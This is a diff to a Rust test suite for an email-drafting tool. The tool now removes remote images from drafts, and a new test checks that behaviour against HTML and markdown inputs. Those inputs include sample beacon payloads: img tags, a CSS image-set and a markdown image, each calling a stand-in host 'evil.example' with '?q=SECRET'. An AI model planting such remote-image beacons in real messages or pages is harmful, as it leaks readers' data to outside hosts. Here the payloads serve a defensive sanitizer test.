@@ -58,14 +58,15 @@ async fn a_simple_answer_is_short_to_tell() {
              to: Jonas Berg <jonas@example.com>\n\
              subject: \"Re: Lamps\"\n\
              thread: t1",
-            "nothing was sent; mail_send id=d1 sends it",
+            "remote pictures left out: 1 (setting `remote_pictures`)\n\
+             nothing was sent; mail_send id=d1 sends it",
         ]
     );
     let tokens: usize = blocks
         .iter()
         .map(|block| daysheet::budget::count::tokens(block))
         .sum();
-    assert!(tokens <= 60, "{tokens}");
+    assert!(tokens <= 72, "{tokens}");
     let held = post.held("draft1");
     assert_eq!(
         held.text,
@@ -78,7 +79,7 @@ async fn a_simple_answer_is_short_to_tell() {
         "<p>Yes, please.</p>\n<div>-- <br>\n<b>Mira</b><br>Lindqvist Lamps</div>\n\
          <p>On Tue, 3 Feb 2026 at 11:00, Jonas Berg &lt;jonas@example.com&gt; wrote:</p>\n\
          <blockquote type=\"cite\" style=\"margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex\">\n\
-         <p>Do you have <b>lamps</b>?<img src=\"https://example.com/x.png\"></p>\n</blockquote>"
+         <p>Do you have <b>lamps</b>?</p>\n</blockquote>"
     );
     assert_eq!(held.in_reply_to.as_deref(), Some("j1@example.com"));
     assert_eq!(held.references, ["j0@example.com", "j1@example.com"]);
@@ -327,4 +328,49 @@ async fn files_of_every_kind_go_along() {
         "{}",
         held.html
     );
+}
+
+#[tokio::test]
+async fn what_is_written_loads_nothing_from_elsewhere() {
+    let html = "<p>a<img src='https://evil.example/?q=SECRET' alt='Logo &lt;b&gt;'>b\
+                <IMG alt=x SRC=\" HTTP://evil.example/\"><img src=//evil.example/y>\
+                <span style=\"background:image-set('https://evil.example/z' 1x)\">c</span>\
+                <img src='data:image/png;base64,AA=='></p>";
+    let markdown = "a ![Logo](https://evil.example/?q=SECRET) b";
+    let note =
+        |count: usize| format!("remote pictures left out: {count} (setting `remote_pictures`)");
+    let cases = [
+        (
+            "html",
+            html,
+            note(2),
+            "<p>aLogo &lt;b&gt;bx<img><span>c</span><img src=\"data:image/png;base64,AA==\"></p>",
+        ),
+        ("md", markdown, note(1), "<p>a Logo b</p>"),
+    ];
+    for (format, body, note, written) in cases {
+        let post = Post::new(&[]).await;
+        let new = json!({"to": "bo@example.com", "body": body, "body_format": format});
+        let blocks = post.ok(new.clone()).await;
+        assert!(blocks.last().unwrap().contains(&note), "{blocks:?}");
+        assert!(
+            post.held("draft1").html.starts_with(written),
+            "{}",
+            post.held("draft1").html
+        );
+        // So it is when a draft is changed, and not where the settings allow it.
+        let edit = json!({"mode": "edit", "id": "d1", "body": format!("{body} again"),
+                          "body_format": format});
+        let blocks = post.ok(edit).await;
+        assert!(blocks.last().unwrap().contains(&note), "{blocks:?}");
+        assert!(!post.held("draft1").html.contains("evil.example/?"));
+        let post = Post::new(&[("DAYSHEET_REMOTE_PICTURES", "allow")]).await;
+        let blocks = post.ok(new).await;
+        assert!(!blocks.last().unwrap().contains("pictures"), "{blocks:?}");
+        assert!(
+            post.held("draft1")
+                .html
+                .contains("https://evil.example/?q=SECRET")
+        );
+    }
 }
